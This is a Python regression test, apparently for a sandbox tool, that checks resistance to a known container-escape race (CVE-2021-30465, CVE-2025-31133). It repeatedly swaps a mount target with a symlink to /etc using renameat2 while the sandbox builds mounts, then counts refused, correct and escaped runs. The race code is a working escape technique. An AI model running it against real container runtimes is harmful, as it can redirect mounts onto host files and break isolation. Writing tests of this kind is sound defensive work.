# Technique: A mount target exchanged for a symbolic link while the box is built (CVE-2021-30465, CVE-2025-31133)
# Tries: to exchange a directory and a link to /etc in a bound directory during the set-up of many boxes that mount below it
# Right result: every box is refused, or mounts where it was told
# Class: escape
# Area: files
# Where: host
# Not shown: what looks the target up anew without RESOLVE_NO_SYMLINKS is a mount by path, shown by target_through_symlink
import ctypes
import os
import subprocess
import sys
import threading

top = sys.argv[2]
work = f"{top}/work"
os.makedirs(f"{work}/target/inner")
os.symlink("/etc", f"{work}/other")
stop = threading.Event()
libc = ctypes.CDLL(None)


def exchange():
    names = (f"{work}/target".encode(), f"{work}/other".encode())
    while not stop.is_set():
        libc.renameat2(-100, names[0], -100, names[1], 2)


racer = threading.Thread(target=exchange)
racer.start()
refused = built = wrong = 0
for attempt in range(40):
    what = ["--tmpfs", "/w/target/inner"] if attempt % 2 else ["--mask", "/w/target/inner"]
    words = ["run", "--timeout", "20s", "--ro-bind", f"{work}:/w", *what, "--", "cat", "/proc/self/mountinfo"]
    run = subprocess.run([os.environ["PIVOTBOX"], *words], capture_output=True, text=True)
    points = [line.split()[4] for line in run.stdout.splitlines()]
    if run.returncode == 125:
        refused += 1
    elif any(point.startswith("/etc/inner") for point in points) or run.returncode != 0:
        wrong += 1
        print("ESCAPED:", run.returncode, run.stdout, run.stderr)
    else:
        built += 1
stop.set()
racer.join()
print(f"held: {refused} refused, {built} built, {wrong} wrong")
sys.exit(1 if wrong else 0)
